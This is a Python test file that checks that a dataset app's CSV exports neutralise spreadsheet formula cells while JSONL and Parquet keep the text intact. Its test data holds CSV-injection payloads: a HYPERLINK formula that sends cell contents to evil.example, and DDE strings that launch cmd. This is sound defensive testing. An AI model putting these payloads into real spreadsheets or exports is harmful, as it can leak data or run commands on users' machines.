"""CSV exports neutralise formula cells; JSONL and Parquet keep the text exactly."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from apps.catalog.models import SentencePair, StereotypeTuple
from apps.releases.csv_safety import csv_cell_neutralise, csv_cell_restore
from apps.releases.readers import READERS
from apps.releases.services import release_create, release_file_path

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98765", "'+91 98765"),
        ("-", "'-"),
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("'x", "''x"),
        ("", ""),
        ("plain = text", "plain = text"),
        ("बूढ़े लोग", "बूढ़े लोग"),
    ],
)
def test_neutralise_by_hand(text: str, cell: str) -> None:
    assert csv_cell_neutralise(text) == cell
    assert csv_cell_restore(cell) == text


def _release_with_hostile_text(dataset):
    pair = SentencePair.objects.filter(dataset=dataset).first()
    for number, text in enumerate(HOSTILE):
        SentencePair.objects.create(
            dataset=dataset,
            external_id=f"hostile-{number}",
            category=pair.category,
            language="en",
            sent_more=text,
            sent_less="ok",
            direction="stereo",
            target_group=text,
        )
    StereotypeTuple.objects.create(
        dataset=dataset,
        category=pair.category,
        language="en",
        identity_term="=cmd|' /C notepad'!A1",
        attribute="-x",
        votes=[1],
    )
    # Sentence pairs have no review step: only an as-published release has them.
    return release_create(dataset=dataset, content="as_published")


def _file(release, kind: str, file_format: str):
    return release_file_path(release_file=release.files.get(kind=kind, format=file_format))


def test_csv_cells_never_start_a_formula(dataset) -> None:
    release = _release_with_hostile_text(dataset)
    for kind in ("sentence_pairs", "tuples", "instances", "context_sets"):
        text = _file(release, kind, "csv").read_bytes().decode("utf-8")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r", (kind, cell)
    pairs = _file(release, "sentence_pairs", "csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in pairs and "'@SUM(A1:A9)" in pairs and "''already quoted" in pairs


def test_jsonl_and_parquet_keep_the_text_and_the_csv_reader_restores_it(dataset) -> None:
    release = _release_with_hostile_text(dataset)
    jsonl = _file(release, "sentence_pairs", "jsonl").read_text(encoding="utf-8")
    from_jsonl = [json.loads(line) for line in jsonl.splitlines()]
    assert {row["sent_more"] for row in from_jsonl} >= set(HOSTILE)
    from_parquet = pq.read_table(_file(release, "sentence_pairs", "parquet")).to_pylist()
    assert from_parquet == from_jsonl
    with open(_file(release, "sentence_pairs", "csv"), "rb") as f:
        assert list(READERS["csv"](f, kind="sentence_pairs")) == from_jsonl
    tuples_jsonl = _file(release, "tuples", "jsonl").read_text(encoding="utf-8")
    assert "=cmd|' /C notepad'!A1" in tuples_jsonl
